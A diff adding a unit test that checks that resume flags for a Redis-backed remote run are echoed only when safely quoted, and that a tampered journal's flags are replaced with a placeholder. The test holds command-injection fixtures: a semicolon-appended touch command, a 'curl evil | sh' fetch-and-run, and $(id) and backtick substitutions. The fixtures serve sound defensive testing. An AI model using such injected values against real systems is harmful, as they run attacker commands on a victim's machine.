@@ -31,6 +31,23 @@ describe('tasks in flight when a remote run stopped', () => {
     const noteOf = (resumeFlags: string) => remoteNoteOf({ remote: { resumeFlags, prefix: 'rxdag' } });
     const key = Buffer.from('0123456789abcdef0123456789abcdef');
 
+    it('should take only flags as the command line writes them, which a resume hint prints for pasting', () => {
+      for (const flags of [
+        " --redis 'redis://u:***@h:6379/0' --redis-prefix 'a b' --key-file /k --insecure",
+        ' --redis redis://h --key-file <(…)',
+        " --redis $'redis://h/0\\n' --redis-prefix 'it'\\''s'",
+      ])
+        expect(noteOf(flags)).toMatchObject({ resumeFlags: flags });
+      // a journal edited by someone else: its text is not printed as a command
+      for (const flags of [
+        ' --redis x; touch /tmp/owned #',
+        ' --redis redis://h/0 --local && curl evil | sh',
+        ' --redis $(id)',
+        ' --redis `id`',
+      ])
+        expect(noteOf(flags)).toMatchObject({ resumeFlags: ' --redis REDIS_URL' });
+    });
+
     it('should read the Redis database from the URL of its flags', () => {
       expect(noteOf(" --redis 'redis://:***@h:6379/3' --key-file /k")).toMatchObject({ db: 3 });
       expect(noteOf(' --redis redis://h:6379')).toMatchObject({ db: 0 });
